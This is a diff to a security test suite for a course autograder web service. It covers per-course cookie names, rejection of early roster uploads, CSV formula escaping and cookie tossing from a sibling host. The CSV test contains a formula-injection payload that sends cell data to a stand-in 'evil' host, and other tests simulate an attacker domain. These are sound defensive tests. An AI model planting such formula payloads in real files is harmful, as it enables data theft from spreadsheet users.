@@ -17,7 +17,10 @@ import make_corpus
 import pytest
 
 from ..conftest import CHROMIUM, CHROMIUM_ARGS
-from .server import REPO, Server, Tosser, make_course, notebook_bytes, run, screenshot, self_signed, submit
+from .server import UPGRADED, REPO, Server, Tosser, make_course, notebook_bytes, run, screenshot, self_signed, submit
+
+SESSION = f"autograder_session-{UPGRADED}"  # the course's session cookie over HTTP ...
+SECURE_SESSION = "__Host-" + SESSION  # ... and over HTTPS
 
 pytestmark = pytest.mark.slow
 A1, A2, A3 = "ps1_threshold_metrics", "ps2_roc_auc", "ps3_pr_ap"
@@ -50,7 +53,7 @@ def tls_site(tmp_path_factory):
     data = folder / "data"
     codes = make_course(data, ["t01", "t02"], config={"assignments": {A1: {"deadline": FAR}}})
     tls = self_signed(folder / "cert")
-    server = Server(data, "--jobs", "1", tls=tls).start()
+    server = Server(data, "--jobs", "1", tls=tls, public_host="course.example.test").start()
     yield {"server": server, "codes": codes, "tls": tls}
     server.stop()
 
@@ -65,7 +68,7 @@ def open_upload(server: Server, code: str, assignment: str, length: int | None =
     """A raw upload whose headers are sent (chunked, or with ``length``); the body is the caller's to send."""
     s = socket.create_connection(("127.0.0.1", server.port), timeout=20)
     framing = f"Content-Length: {length}" if length is not None else "Transfer-Encoding: chunked"
-    s.sendall((f"POST /api/v1/assignments/{assignment}/submissions HTTP/1.1\r\nHost: 127.0.0.1\r\n"
+    s.sendall((f"POST /c/{UPGRADED}/api/v1/assignments/{assignment}/submissions HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                f"Authorization: Bearer {code}\r\nContent-Type: multipart/form-data; boundary={BOUNDARY}\r\n"
                f"{framing}\r\n\r\n").encode())
     return s
@@ -170,7 +173,7 @@ def test_roster_import_reads_nothing_without_a_session(site):
     """Finding 3: the roster upload is refused from its headers alone, before a byte of the body is read."""
     server = site["server"]
     with socket.create_connection(("127.0.0.1", server.port), timeout=5) as s:
-        s.sendall((f"POST /instructor/roster/import HTTP/1.1\r\nHost: 127.0.0.1\r\n"
+        s.sendall((f"POST /c/{UPGRADED}/instructor/roster/import HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                    f"Content-Type: multipart/form-data; boundary={BOUNDARY}\r\nContent-Length: {10 << 20}\r\n\r\n").encode())
         head = s.recv(65536).decode("utf-8", "replace")  # no body sent: an answer now means none was awaited
     assert head.split(" ")[1] in ("303", "401", "403"), head[:300]
@@ -184,7 +187,7 @@ def test_csv_cells_cannot_become_formulas(site, tmp_path):
     roster.write_text('student_id,name,email\nx01,"=HYPERLINK(""http://evil/?""&D2,""点击"")",+1@evil\n'
                       "x02,@SUM(1),-2@evil\n", encoding="utf-8")
     out = tmp_path / "codes.csv"
-    run("roster", "import", str(roster), "--data", str(data), "--codes", str(out))
+    run("roster", "import", str(roster), "--data", str(data), "--codes", str(out))  # the only course: no --course
     rows = list(csv.reader(out.open(encoding="utf-8")))
     assert rows[1][1].startswith("'=HYPERLINK(") and rows[1][2] == "'+1@evil"
     assert rows[2][1:3] == ["'@SUM(1)", "'-2@evil"]
@@ -245,27 +248,27 @@ def test_over_https_cookies_are_host_only_and_a_tossed_cookie_is_ignored(tls_sit
         r = victim.post("/api/v1/session", json={"code": codes["t01"]})
         assert r.status_code == 200, r.text
         cookie = r.headers["set-cookie"]
-        assert cookie.startswith("__Host-autograder_session=") and "; Secure" in cookie and "Path=/;" in cookie
+        assert cookie.startswith("__Host-autograder_session-default=") and "; Secure" in cookie and "Path=/;" in cookie
         assert "domain" not in cookie.lower()
-        mine = victim.cookies.get("__Host-autograder_session")
+        mine = victim.cookies.get(SECURE_SESSION)
         assert victim.get("/api/v1/session").json()["login"] == "t01"
         attacker.post("/api/v1/session", json={"code": codes["t02"]})
-        theirs = attacker.cookies.get("__Host-autograder_session")
-        for header in (f"autograder_session={theirs}; __Host-autograder_session={mine}",
-                       f"__Host-autograder_session={mine}; autograder_session={theirs}"):
+        theirs = attacker.cookies.get(SECURE_SESSION)
+        for header in (f"autograder_session={theirs}; __Host-autograder_session-default={mine}",
+                       f"__Host-autograder_session-default={mine}; autograder_session={theirs}"):
             with server.client() as c:
                 r = c.get("/api/v1/session", headers={"Cookie": header})
                 assert r.json()["login"] == "t01", header
         with server.client() as c:
-            assert c.get("/api/v1/session", headers={"Cookie": f"autograder_session={theirs}"}).status_code == 401
+            assert c.get("/api/v1/session", headers={"Cookie": f"{SESSION}={theirs}"}).status_code == 401
     with server.client() as page:  # the sign-in page over HTTPS: its own cookie is __Host- too
         form = page.get("/login")
-        assert form.headers["set-cookie"].startswith("__Host-autograder_login=") and "; Secure" in form.headers["set-cookie"]
+        assert form.headers["set-cookie"].startswith(f"__Host-autograder_login-{UPGRADED}=") and "; Secure" in form.headers["set-cookie"]
         token = form.text.split('name="csrf_token" value="')[1].split('"')[0]
         r = page.post("/login", data={"login": "t01", "code": codes["t01"], "csrf_token": token},
                       headers={"Origin": server.base}, follow_redirects=False)
         assert r.status_code == 303, r.text
-        assert any(v.startswith("__Host-autograder_session=") for v in r.headers.get_list("set-cookie"))
+        assert any(v.startswith("__Host-autograder_session-default=") for v in r.headers.get_list("set-cookie"))
         shown = page.get(f"/assignments/{A1}").text
         assert "&amp;account=t01" in shown  # the upload form says whom it was shown for
 
@@ -282,8 +285,8 @@ def test_over_https_a_sibling_host_cannot_toss_the_session_cookie_in_a_browser(t
         assert r.status_code == 200
         theirs = r.headers["set-cookie"].split(";")[0].split("=", 1)[1]  # the classmate's session, whatever its name
     tosser = Tosser(theirs, [f"{name}={theirs}; Domain=example.test; Path=/; Secure; HttpOnly; SameSite=Lax"
-                             for name in ("autograder_session", "__Host-autograder_session")], tls=tls)
-    base = f"https://course.example.test:{server.port}"
+                             for name in (SESSION, SECURE_SESSION)], tls=tls)
+    base = f"https://course.example.test:{server.port}/c/{UPGRADED}"
     # a browser of its own (the host names resolved to this machine), from the shared browser's Playwright
     b = browser.browser_type.launch(executable_path=CHROMIUM, headless=True,
                                     args=[*CHROMIUM_ARGS, "--host-resolver-rules=MAP *.example.test 127.0.0.1"])
@@ -297,12 +300,12 @@ def test_over_https_a_sibling_host_cannot_toss_the_session_cookie_in_a_browser(t
             page.click("button[type=submit]")
         assert page.locator(".who").inner_text().endswith("（t01）")
         mine = {c["name"]: c for c in ctx.cookies() if "autograder" in c["name"]}
-        assert set(mine) == {"__Host-autograder_session"} and mine["__Host-autograder_session"]["secure"]
+        assert set(mine) == {SECURE_SESSION} and mine[SECURE_SESSION]["secure"]
         other = ctx.new_page()
         other.goto(f"https://evil.example.test:{tosser.port}/")
         other.close()
         tossed = [(c["name"], c["domain"]) for c in ctx.cookies() if c["value"] == theirs]
-        assert tossed == [("autograder_session", ".example.test")], tossed  # the __Host- one was refused
+        assert tossed == [(SESSION, ".example.test")], tossed  # the __Host- one was refused
         page.goto(f"{base}/")  # the browser now sends both cookies; the service reads only the __Host- one
         assert page.locator(".who").inner_text().endswith("（t01）")
         assert page.locator(".account-change").count() == 0
